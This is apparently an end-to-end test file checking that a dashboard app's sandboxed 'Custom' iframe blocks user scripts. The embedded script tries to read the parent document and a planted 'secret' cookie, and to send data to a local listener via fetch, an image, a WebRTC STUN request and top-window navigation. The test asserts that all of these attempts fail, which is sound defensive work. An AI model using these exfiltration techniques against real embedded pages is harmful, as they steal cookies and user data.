/**
 * A Custom node's own script runs sandboxed, in real Chromium over the
 * production build: it reaches neither the page around it (parent.document),
 * nor the network (fetch, an image, WebRTC to a STUN server: listeners on this machine), nor the
 * app's cookies, nor the top window's location; and it still draws the rows
 * it was handed. A frame that navigates itself does not leave the app's origin.
 */
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort, type AppServer } from './app-server';
import { withAppAndBrowser } from './app-and-browser';
import { createPage, mint } from './embed-fixtures';
import { openNewPageWith } from './studio-driving';

let app: AppServer;
let browser: Browser;
withAppAndBrowser((a, b) => {
  app = a;
  browser = b;
});

// Listeners the script tries to reach (HTTP, and UDP as a STUN server for WebRTC): they must never hear from it.
const heard: string[] = [];
let listener: Server;
let port: number;
let udp: Socket;
let udpPort: number;
beforeAll(async () => {
  udp = createSocket('udp4');
  udp.on('message', (message, from) => heard.push(`udp ${message.length} B from ${from.address}:${from.port}`));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', () => resolve()));
  udpPort = udp.address().port;
  port = await freePort();
  listener = createServer((req, res) => {
    heard.push(`${req.method} ${req.url}`);
    res.end('stolen');
  });
  await new Promise<void>((resolve) => listener.listen(port, '127.0.0.1', resolve));
});
afterAll(async () => {
  udp.close();
  await new Promise<void>((resolve) => listener.close(() => resolve()));
});

function pageText(): string {
  const script = `
var got = [];
try { got.push('parent.document: ' + parent.document.title); } catch (e) {}
try { if (document.cookie) got.push('cookie: ' + document.cookie); } catch (e) {}
try { fetch('http://127.0.0.1:${port}/fetch').then(function () { got.push('fetch'); }, function () {}); } catch (e) {}
try { new Image().src = 'http://127.0.0.1:${port}/image'; } catch (e) {}
try { top.location = 'http://127.0.0.1:${port}/top'; } catch (e) {}
try { var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); pc.createDataChannel('rows'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }); got.push('webrtc'); } catch (e) {}
document.getElementById('rows').innerHTML = amdahl.rows.map(function (r) { return '<li>' + r.channel + ': ' + r.events + '</li>'; }).join('');
setTimeout(function () { document.getElementById('got').textContent = 'got: ' + (got.join(', ') || 'nothing'); }, 500);`;
  return JSON.stringify(
    {
      name: 'Sandboxed',
      tags: ['e2e-custom'],
      declared_queries: [{ name: 'by_channel', source: 'sql', sql: 'SELECT channel, COUNT(*) AS events FROM interactions GROUP BY channel ORDER BY channel' }],
      spec: {
        version: 1,
        layout: 'dashboard',
        root: {
          type: 'Section',
          props: { title: 'Sandboxed' },
          children: [
            { type: 'Custom', props: { title: 'Channel rows', data: { $query: 'by_channel' }, html: `<ul id="rows"></ul><p id="got"></p><script>${script}</script>` } },
            // A frame may navigate itself: the page's frame-src keeps it (and the rows it holds) on the app's origin.
            { type: 'Custom', props: { title: 'Runaway', data: { $query: 'by_channel' }, html: `<script>location.href = 'http://127.0.0.1:${port}/self?rows=' + amdahl.rows.length;</script>` } },
          ],
        },
      },
    },
    null,
    2,
  );
}

describe('Custom in a sandbox', () => {
  it('gets no parent document, network, cookie or top navigation, and still draws its rows', async () => {
    const context = await browser.newContext();
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: app.url });
    await context.addCookies([{ name: 'amdahl_secret', value: 's3cret', url: app.url }]);
    const page = await context.newPage();
    // Requests that completed (one the policy blocks is reported as failed, never sent).
    const finished: string[] = [];
    page.on('requestfinished', (r) => finished.push(r.url()));
    const navigations: string[] = [];
    page.on('framenavigated', (frame) => {
      if (frame === page.mainFrame()) navigations.push(frame.url());
    });
    try {
      await openNewPageWith(page, app.url, pageText(), 'Sandboxed');
      const studioUrl = page.url();

      const frameElement = page.getByTestId('preview').locator('iframe[title="Channel rows"]');
      await frameElement.waitFor({ timeout: 60_000 });
      expect(await frameElement.getAttribute('sandbox')).toBe('allow-scripts');
      const frame = page.frameLocator('iframe[title="Channel rows"]');
      await expect.poll(() => frame.locator('li').count(), { timeout: 30_000 }).toBe(6);
      expect(await frame.locator('li').first().innerText()).toMatch(/^\w+: \d+$/);
      await expect.poll(() => frame.locator('#got').innerText(), { timeout: 10_000 }).toBe('got: nothing');
      // The frame grew to its content's reported height.
      expect((await frameElement.boundingBox())!.height).toBeGreaterThan(100);

      // Give anything that slipped out time to arrive.
      await page.waitForTimeout(1500);
      expect(heard).toEqual([]);
      expect(finished.filter((url) => url.includes(`:${port}/`))).toEqual([]);
      expect(page.url()).toBe(studioUrl);
      expect(navigations.filter((url) => url !== studioUrl)).toEqual([]);

      // The runaway frame's navigation was stopped by the page's frame-src.
      expect(await page.getByTestId('preview').locator('iframe[title="Runaway"]').count()).toBe(1);
      // The frame's own document came with the no-network policy.
      const sandbox = await fetch(`${app.url}/sandbox/custom`);
      expect(sandbox.headers.get('content-security-policy')).toContain("default-src 'none'");
      expect(sandbox.headers.get('content-security-policy')).not.toContain('frame-ancestors');
    } finally {
      await context.close();
    }
  });

  it('draws the same sandboxed frame in an embed, with the same result', async () => {
    const created = await createPage(app.url, JSON.parse(pageText()) as object);
    const { url } = await mint(app.url, created.id);
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(url);
      const frameElement = page.locator('iframe[title="Channel rows"]');
      await frameElement.waitFor({ timeout: 30_000 });
      expect(await frameElement.getAttribute('sandbox')).toBe('allow-scripts');
      const frame = page.frameLocator('iframe[title="Channel rows"]');
      await expect.poll(() => frame.locator('li').count(), { timeout: 30_000 }).toBe(6);
      await expect.poll(() => frame.locator('#got').innerText(), { timeout: 10_000 }).toBe('got: nothing');
      await page.waitForTimeout(1000);
      expect(heard).toEqual([]);
      expect(page.url()).toBe(url);
    } finally {
      await context.close();
    }
  });
});
